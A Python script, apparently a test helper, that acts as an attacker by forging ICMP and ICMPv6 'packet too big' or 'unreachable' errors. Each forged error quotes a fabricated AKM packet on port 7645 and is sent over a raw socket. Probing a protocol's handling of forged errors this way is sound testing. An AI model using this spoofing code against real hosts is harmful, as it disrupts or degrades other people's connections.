#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""The attacker who makes up ICMP errors about AKM packets that others sent.

  icmp.py too-big|unreachable SENDER RECEIVER [--mtu N] [--key-id N] [--member N] [--quote BYTES]

Tells SENDER that its packet to RECEIVER (addresses of one family; port 7645) was too big for a
link of MTU N, or that nobody was there. The packet that it quotes is made up as well: an outer
header, and BYTES of what follows the UDP header, which begin like an AKM packet of MEMBER.
"""
import argparse
import ipaddress
import socket
import struct

PORT = 7645
UDP = 17
ICMP4 = {'too-big': (3, 4), 'unreachable': (3, 3)}
ICMP6 = {'too-big': (2, 0), 'unreachable': (1, 4)}


def checksum(data):
    total = sum(struct.unpack(f'>{len(data) // 2}H', data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def quotation(a):
    packet = struct.pack('>BBHIQ', 0x11, 0, a.member, a.key_id, 1 << 40) + bytes(1000)
    udp = struct.pack('>HHHH', PORT, PORT, 8 + len(packet), 0)
    if a.sender.version == 4:
        ip = struct.pack('>BBHHHBBH', 0x45, 0, 28 + len(packet), 0, 0, 64, UDP, 0)
    else:
        ip = struct.pack('>IHBB', 6 << 28, 8 + len(packet), UDP, 64)
    return ip + a.sender.packed + a.receiver.packed + udp + packet[:a.quote]


def main():
    p = argparse.ArgumentParser()
    p.add_argument('kind', choices=ICMP4)
    p.add_argument('sender', type=ipaddress.ip_address)
    p.add_argument('receiver', type=ipaddress.ip_address)
    p.add_argument('--mtu', type=int, default=0)
    p.add_argument('--key-id', type=int, default=1001)
    p.add_argument('--member', type=int, default=1)
    p.add_argument('--quote', type=int, default=64)
    a = p.parse_args()
    if a.sender.version == 4:
        kind, code = ICMP4[a.kind]
        rest = struct.pack('>I', a.mtu) + quotation(a)
        check = checksum(struct.pack('>BBH', kind, code, 0) + rest)
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    else:
        kind, code = ICMP6[a.kind]
        rest = struct.pack('>I', a.mtu) + quotation(a)
        check = 0               # the kernel's to fill in
        s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
    s.sendto(struct.pack('>BBH', kind, code, check) + rest, (str(a.sender), 0))


main()
